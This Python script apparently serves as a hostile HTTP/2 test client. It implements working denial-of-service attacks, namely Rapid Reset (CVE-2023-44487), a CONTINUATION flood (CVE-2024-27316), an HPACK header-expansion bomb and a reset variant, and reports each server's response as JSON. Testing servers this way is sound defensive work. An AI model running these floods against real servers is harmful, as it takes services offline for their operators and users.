"""Speaks HTTP/2 as an attacker does, with the libraries hpack and hyperframe, and prints what came of it as JSON.

    hostile_h2.py ADDRESS PORT rapid_reset|patient_reset|continuation_flood|header_bomb|idle
"""

import json
import socket
import sys

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SENT_AT_MOST = 64 << 20


class Hostile:
    def __init__(self, address, port):
        self.socket = socket.create_connection((address, port), timeout=10)
        self.encoder = Encoder()
        self.sent = 0
        self.stream = 1
        self.broken = False
        self.came = b""
        self.goaway = None
        self.write(PREFACE + SettingsFrame(0).serialize())

    def write(self, data):
        try:
            self.socket.sendall(data)
            self.sent += len(data)
        except OSError:
            self.broken = True

    def headers(self, more=()):
        return self.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/big"), *more])

    def request(self, block, flags):
        frame = HeadersFrame(self.stream, block)
        for flag in flags:
            frame.flags.add(flag)
        self.write(frame.serialize())
        self.stream += 2
        return self.stream - 2

    # Each request is taken back as soon as it is sent (CVE-2023-44487).
    def rapid_reset(self):
        for _ in range(20_000):
            stream = self.request(self.headers(), ["END_HEADERS", "END_STREAM"])
            self.write(RstStreamFrame(stream, error_code=8).serialize())
            if self.broken:
                break

    # The same, after each request was taken up.
    def patient_reset(self):
        for _ in range(200):
            streams = [self.request(self.headers(), ["END_HEADERS", "END_STREAM"]) for _ in range(10)]
            self.write(PingFrame(0, opaque_data=b"penstock").serialize())
            if not self.await_pong():
                break
            for stream in streams:
                self.write(RstStreamFrame(stream, error_code=8).serialize())

    def await_pong(self):
        try:
            while True:
                frame = self.read()
                if frame is None or isinstance(frame, GoAwayFrame):
                    return False
                if isinstance(frame, PingFrame):
                    return True
        except OSError:
            return False

    # The fields of a request that never end (CVE-2024-27316).
    def continuation_flood(self):
        stream = self.request(self.headers(), ["END_STREAM"])
        while self.sent < SENT_AT_MOST and not self.broken:
            block = self.encoder.encode([("x-%d" % self.sent, "y" * 8000)])
            self.write(ContinuationFrame(stream, block).serialize())

    # Few bytes that unpack to many: one large field, then only its number in the table.
    def header_bomb(self):
        large = ("x-bomb", "y" * 3900)
        self.encoder.encode([large])
        for _ in range(50):
            first = Encoder()
            block = first.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/"), large])
            block += b"".join(first.encode([large]) for _ in range(4000))
            self.encoder = first
            self.request(block, ["END_HEADERS", "END_STREAM"])
            if self.broken:
                break

    # Nothing more after the first request, until the other side says so.
    def idle(self):
        block = self.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")])
        self.request(block, ["END_HEADERS", "END_STREAM"])
        while "END_STREAM" not in self.read().flags:
            pass
        print("answered", flush=True)
        while not isinstance(self.read(), GoAwayFrame):
            pass
        # As a client that goes away without a word: the last frame asked for none.
        self.socket.shutdown(socket.SHUT_WR)

    # The next frame; None at the end.
    def read(self):
        while True:
            if len(self.came) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.came[:9]))
                if len(self.came) >= 9 + length:
                    frame.parse_body(memoryview(self.came[9:9 + length]))
                    self.came = self.came[9 + length:]
                    if isinstance(frame, GoAwayFrame):
                        self.goaway = frame.error_code
                    return frame
            more = self.socket.recv(1 << 16)
            if not more:
                return None
            self.came += more

    # Reads until the other side closes, or is silent.
    def outcome(self):
        closed = False
        try:
            while self.read() is not None:
                pass
            closed = True
        except ConnectionError:
            closed = True
        except TimeoutError:
            pass
        return {"goaway": self.goaway, "closed": closed, "sent": self.sent}


hostile = Hostile(sys.argv[1], int(sys.argv[2]))
getattr(hostile, sys.argv[3])()
print(json.dumps(hostile.outcome()))
